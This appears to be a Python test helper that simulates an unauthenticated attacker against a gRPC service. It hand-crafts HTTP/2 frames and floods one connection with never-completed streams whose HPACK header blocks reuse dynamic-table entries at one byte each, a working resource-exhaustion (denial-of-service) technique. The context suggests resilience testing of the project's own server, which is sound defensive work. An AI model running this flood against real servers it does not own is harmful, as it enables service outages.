"""An attacker without a token: calls that cost it a few bytes each, and that it never completes."""

from __future__ import annotations

import asyncio
import struct
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, WINDOW_UPDATE = 4, 1, 8
END_HEADERS = 4
STATIC_PATH, STATIC_AUTHORITY, STATIC_CONTENT_TYPE = 4, 1, 31
POST_OVER_HTTP = b"\x83\x86"
BATCH = 256
"""Calls that are sent at once."""


async def drop_header_bombs(host: str, port: int, calls: int, *, elements: int = 0) -> int:
    """Opens so many calls on one connection, and completes none; returns how many were sent before the server hung up.

    Each has `elements` further headers, which cost one byte each, because they stand in the table of the connection.
    """
    reader, writer = await asyncio.open_connection(host, port)
    answers = asyncio.create_task(_discard(reader))
    sent = 0
    try:
        path = b"/seatwise.v1.MatchService/ListMatches"
        writer.write(
            PREFACE + _frame(SETTINGS, 0, 0, b"") + _frame(HEADERS, END_HEADERS, 1, _first_block(path))
        )
        block = POST_OVER_HTTP + bytes(0x80 | entry for entry in (66, 65, 64, 63)) + b"\xbe" * elements
        for first in range(0, calls, BATCH):
            numbers = range(first + 1, min(first + BATCH, calls) + 1)
            writer.write(b"".join(_frame(HEADERS, END_HEADERS, 2 * number + 1, block) for number in numbers))
            await writer.drain()
            sent = numbers[-1]
    except ConnectionError:
        pass
    finally:
        answers.cancel()
        writer.close()
        with suppress(ConnectionError):
            await writer.wait_closed()
    return sent


async def _discard(reader: asyncio.StreamReader) -> None:
    while await reader.read(1 << 16):
        pass


def _first_block(path: bytes) -> bytes:
    """Headers of a call, all of which stay in the table of the connection: the last one is its entry 62."""
    return (
        POST_OVER_HTTP
        + _known(STATIC_PATH, path)
        + _known(STATIC_AUTHORITY, b"localhost")
        + _known(STATIC_CONTENT_TYPE, b"application/grpc")
        + _new(b"te", b"trailers")
        + _new(b"a", b"b")
    )


def _known(name: int, value: bytes) -> bytes:
    return bytes((0x40 | name, len(value))) + value


def _new(name: bytes, value: bytes) -> bytes:
    return bytes((0x40, len(name))) + name + bytes((len(value),)) + value


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
